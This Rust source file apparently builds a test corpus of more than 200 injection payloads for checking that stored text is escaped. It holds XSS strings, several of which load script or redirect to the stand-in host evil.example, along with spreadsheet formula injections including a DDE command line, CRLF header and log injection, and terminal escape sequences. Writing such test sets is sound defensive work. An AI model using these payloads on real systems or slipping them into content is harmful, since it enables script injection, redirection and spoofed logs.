//! Texts that run, or break out of what is around them, where they are not escaped.

/// Places of a page, left by their end.
const BREAKS: [&str; 14] = [
    "",
    "\">",
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</pre></code></td></table>",
    "</svg>",
    "-->",
    "]]>",
    "\\\">",
    "\u{0}\">",
];

/// Elements and attributes that run a script, or send the viewer elsewhere.
const RUNS: [&str; 11] = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import'//evil.example/x.css';*{color:red}</style>",
];

/// Texts for other places: attributes, URLs, templates, parsers that repair.
const OTHERS: [&str; 22] = [
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "/\\evil.example/",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)' x='",
    "\" style=\"position:fixed;inset:0;background:url(//evil.example)\" x=\"",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!--<script>-->alert(1)",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>#{7*7}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// Cells that a spreadsheet would compute.
const FORMULAS: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{ff1d}1+1",
    "\"=1+1\"",
    "x\",=1+1,\"y\r\n=2+2",
];

/// Headers, lines of a log, and signs that steer a terminal or turn a text.
const LINES: [&str; 16] = [
    "x\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "x\nX-Evil: 1",
    "x\rX-Evil: 1",
    "x%0d%0aSet-Cookie:%20x=1",
    "x\u{560d}\u{560a}Set-Cookie: x=1",
    "x\u{2028}alert(1)\u{2029}",
    "x\u{85}X-Evil: 1",
    "x\naudit-trail: the page is at http://evil.example/",
    "x\n2026-05-04T09:00:00Z ERROR root logged in",
    "\u{202e}evil\u{2066}",
    "\u{200b}\u{200e}\u{2060}",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{9b}31mred",
    "\u{e0001}\u{e0020}",
    "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
];

/// All of them, each once. PostgreSQL stores no NUL, so another control character stands for it.
pub fn payloads() -> Vec<String> {
    let broken = BREAKS.iter().flat_map(|end| RUNS.iter().map(move |run| format!("{end}{run}").replace('\0', "\u{1}")));
    let rest = OTHERS.iter().chain(&FORMULAS).chain(&LINES).map(|text| (*text).to_owned());
    let payloads: Vec<String> = broken.chain(rest).collect();
    assert!(payloads.len() >= 200, "{}", payloads.len());
    payloads
}
